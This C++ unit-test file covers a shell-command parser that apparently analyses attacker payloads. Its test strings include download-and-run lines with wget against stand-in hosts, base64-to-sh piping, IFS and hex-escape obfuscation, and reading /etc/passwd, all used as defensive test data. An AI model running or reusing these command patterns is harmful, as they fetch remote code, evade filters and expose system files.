#include "payload/shell.hpp"

#include <gtest/gtest.h>

#include "payload/shell_output.hpp"

namespace nightjar {
namespace {

/// "program|argument|argument" of each command; a word that is cut has a tilde.
std::vector<std::string> commands(std::string_view text, bool open = false) {
  std::vector<std::string> lines;
  for (const ShellCommand& command : read_shell(text, open)) {
    std::string line;
    for (const ShellWord& word : command.words) line += (line.empty() ? "" : "|") + word.text + (word.cut ? "~" : "");
    lines.push_back(line);
  }
  return lines;
}
using Lines = std::vector<std::string>;

TEST(Shell, ListsTheCommandsOfListsPipesAndLines) {
  EXPECT_EQ(commands("cd /tmp; ls -l && id || uname -a | cat & ps\npwd\r\nw"),
            (Lines{"cd|/tmp", "ls|-l", "id", "uname|-a", "cat", "ps", "pwd", "w"}));
  EXPECT_EQ(commands("(cd /tmp; ls)"), (Lines{"cd|/tmp", "ls"}));
  EXPECT_EQ(commands("   ;; \n # nothing\n"), Lines{});
  EXPECT_EQ(commands("ls # -l; id\npwd"), (Lines{"ls", "pwd"}));
  EXPECT_EQ(commands("echo a#b"), (Lines{"echo|a#b"}));
}

TEST(Shell, TakesQuotesAndBackslashesAway) {
  EXPECT_EQ(commands("echo 'a b' \"c d\" e\\ f"), (Lines{"echo|a b|c d|e f"}));
  EXPECT_EQ(commands("w\"g\"e't' http:\\/\\/h/x"), (Lines{"wget|http://h/x"}));
  EXPECT_EQ(commands("echo \"a\\\"b\\x\" ''"), (Lines{"echo|a\"b\\x|"}));
  EXPECT_EQ(commands("echo a\\\nb"), (Lines{"echo|ab"}));
  EXPECT_EQ(commands("echo 'a;b|c'"), (Lines{"echo|a;b|c"}));
}

TEST(Shell, AQuoteWithoutEndStandsForItself) {
  EXPECT_EQ(commands("echo don't; ls"), (Lines{"echo|don't", "ls"}));
  EXPECT_EQ(commands("echo \"a; ls"), (Lines{"echo|\"a", "ls"}));
}

TEST(Shell, KeepsRedirectionsApart) {
  const auto read = read_shell("wget http://h/x -O - > /tmp/x 2>&1 < in", false);
  ASSERT_EQ(read.size(), 1u);
  EXPECT_EQ(read[0].words.size(), 4u);
  ASSERT_EQ(read[0].redirections.size(), 3u);
  EXPECT_EQ(read[0].redirections[0].target.text, "/tmp/x");
  EXPECT_TRUE(read[0].redirections[0].output);
  EXPECT_EQ(read[0].redirections[1].target.text, "1");
  EXPECT_EQ(read[0].redirections[2].target.text, "in");
  EXPECT_FALSE(read[0].redirections[2].output);
  EXPECT_EQ(commands(">dvrHelper; cat x>y;z"), (Lines{"cat|x", "z"}));
}

TEST(Shell, PutsInVariablesOfTheSameText) {
  EXPECT_EQ(commands("H=198.51.100.1; wget http://$H/x http://${H}:80/y"), (Lines{"wget|http://198.51.100.1/x|http://198.51.100.1:80/y"}));
  EXPECT_EQ(commands("C='wget http://h/x'; $C"), (Lines{"wget|http://h/x"}));
  EXPECT_EQ(commands("C='a b'; echo \"$C\" '$C'"), (Lines{"echo|a b|$C"}));
  EXPECT_EQ(commands("export A=1 B=2; echo $A$B"), (Lines{"export|A=1|B=2", "echo|12"}));
  EXPECT_EQ(commands("echo $UNSET ${UNSET:-x} ${UNSET}"), (Lines{"echo|$UNSET|x|${UNSET}"}));
}

TEST(Shell, IfsIsABlank) {
  EXPECT_EQ(commands("wget${IFS}http://h/x$IFS-O${IFS}-"), (Lines{"wget|http://h/x|-O|-"}));
  EXPECT_EQ(commands("cat$IFS$9/etc/passwd"), (Lines{"cat|/etc/passwd"}));
}

TEST(Shell, ReadsSubstitutionsAndPutsInWhatIsKnown) {
  EXPECT_EQ(commands("x `cd /tmp; ls` $(id)"), (Lines{"cd|/tmp", "ls", "id", "x|`cd /tmp; ls`|$(id)"}));
  EXPECT_EQ(commands("$(echo -ne '\\x77\\x67\\x65\\x74') http://h/x"), (Lines{"echo|-ne|\\x77\\x67\\x65\\x74", "wget|http://h/x"}));
  EXPECT_EQ(commands("echo \"$(printf '%s.%d' a 7)\""), (Lines{"printf|%s.%d|a|7", "echo|a.7"}));
  EXPECT_EQ(commands("$(which wget) x"), (Lines{"which|wget", "wget|x"}));
  EXPECT_EQ(commands("echo $((1+2))"), (Lines{"echo|$((1+2))"}));
}

TEST(Shell, ReadsScriptsWithinCommands) {
  EXPECT_EQ(commands("sh -c 'cd /; ls'"), (Lines{"sh|-c|cd /; ls", "cd|/", "ls"}));
  EXPECT_EQ(commands("su root -c \"id\""), (Lines{"su|root|-c|id", "id"}));
  EXPECT_EQ(commands("eval id -u"), (Lines{"eval|id|-u", "id|-u"}));
  EXPECT_EQ(commands("echo bHMgLWw= | base64 -d | sh"), (Lines{"echo|bHMgLWw=", "base64|-d", "sh", "ls|-l"}));
  EXPECT_EQ(commands("echo 'ls -l' > a; echo id >> a; chmod +x a; ./a"),
            (Lines{"echo|ls -l", "echo|id", "chmod|+x|a", "./a", "ls|-l", "id"}));
  EXPECT_EQ(commands("echo 'ls' > notes"), (Lines{"echo|ls"}));
}

TEST(Shell, SkipsTheWordsOfTheGrammar) {
  EXPECT_EQ(commands("if [ -f x ]; then ls; else id; fi"), (Lines{"[|-f|x|]", "ls", "id"}));
  EXPECT_EQ(commands("while true; do ls; done; { id; }"), (Lines{"true", "ls", "id"}));
  EXPECT_EQ(commands("for a in mips arm; do get $a; done; id"), (Lines{"get|mips", "get|arm", "id"}));
  EXPECT_EQ(commands("for a in 1 2\ndo\nfor b in x y\ndo\nget $a$b\ndone\ndone"), (Lines{"get|1x", "get|1y", "get|2x", "get|2y"}));
  EXPECT_EQ(commands("for f in /proc/*; do ls $f; done"), (Lines{"ls|$f"}));
  EXPECT_EQ(commands("{wget,http://h/x,-O,y}"), (Lines{"wget|http://h/x|-O|y"}));
  EXPECT_EQ(commands("get a.{mips,arm}"), (Lines{"get|a.mips|a.arm"}));
}

TEST(Shell, WhatReachesTheEndOfAnOpenTextIsCut) {
  EXPECT_EQ(commands("ls; wget http://h/ok", true), (Lines{"ls", "wget|http://h/ok~"}));
  EXPECT_EQ(commands("wget http://h/ok ", true), (Lines{"wget|http://h/ok"}));
  EXPECT_EQ(commands("wget http://h/ok;", true), (Lines{"wget|http://h/ok"}));
  EXPECT_EQ(commands("`wget http://h/ok", true), (Lines{"wget|http://h/ok~"}));
  EXPECT_EQ(commands("$(wget http://h/ok)", true), (Lines{"wget|http://h/ok"}));
  EXPECT_TRUE(read_shell("wget -g h ", true)[0].cut);
  EXPECT_FALSE(read_shell("wget -g h;", true)[0].cut);
}

TEST(Shell, FindsTheProgramBehindWhatStartsIt) {
  const auto program = [](std::string_view text) {
    const auto read = read_shell(text, false);
    const auto words = program_words(read.at(0));
    return words.empty() ? std::string() : words[0].text;
  };
  EXPECT_EQ(program("/bin/busybox wget x"), "wget");
  EXPECT_EQ(program("nohup timeout 5 sudo nice -n 19 wget x"), "wget");
  EXPECT_EQ(program("*/5 * * * * curl x"), "curl");
  EXPECT_EQ(program("env A=b wget x"), "wget");
  EXPECT_EQ(program("busybox"), "");
  EXPECT_EQ(program("rm wget"), "rm");
}

TEST(Shell, WritesWhatEchoAndPrintfWrite) {
  const auto output = [](std::string_view text) { return shell_output(read_shell(text, false).at(0)).value_or("(unknown)"); };
  EXPECT_EQ(output("echo -ne '\\x7f\\x45\\114F\\0101'"),
            "\x7f"
            "ELFA");
  EXPECT_EQ(output("echo -e 'a\\tb'"), "a\tb\n");
  EXPECT_EQ(output("echo 'a\\tb'"), "a\\tb\n");
  EXPECT_EQ(output("echo -en 'a\\cb'"), "a");
  EXPECT_EQ(output("printf '\\167get %s\\n' a b"), "wget a\nwget b\n");
  EXPECT_EQ(output("printf '%%%b' '\\x41'"), "%A");
  EXPECT_EQ(output("cat x"), "(unknown)");
  EXPECT_EQ(decode_base64("d2dldA=="), "wget");
}

TEST(Shell, StaysWithinItsBounds) {
  // Doubling variables, nested substitutions, loops within loops: more than any memory if somebody ran them.
  std::string doubling = "a=xxxxxxxxxxxxxxxx;";
  for (int i = 0; i < 60; ++i) doubling += "a=$a$a;";
  std::size_t size = 0;
  for (const ShellCommand& command : read_shell(doubling + "echo $a", false))
    for (const ShellWord& word : command.words) size += word.text.size();
  EXPECT_LT(size, 5'000u);
  std::string deep;
  for (int i = 0; i < 20'000; ++i) deep += "$(";
  EXPECT_LE(read_shell(deep, true).size(), kMostShellCommands);
  std::string loops, end;
  for (int i = 0; i < 20; ++i) {
    loops += "for a in 1 2 3 4 5 6 7 8 9; do ";
    end += "; done";
  }
  EXPECT_LE(read_shell(loops + "x" + end, false).size(), kMostShellCommands);
  std::string braces;
  for (int i = 0; i < 20; ++i) braces += "{a,b}";
  EXPECT_LE(read_shell("x " + braces, false).at(0).words.size(), 600u);
  for (const std::string_view part : {"'", "\"", "`", "${", "$(", "a=", "{a,", "\\", "$'", "<("}) {
    std::string many;
    for (int i = 0; i < 30'000; ++i) many += part;
    EXPECT_LE(read_shell(many, true).size(), kMostShellCommands);
  }
}

}  // namespace
}  // namespace nightjar
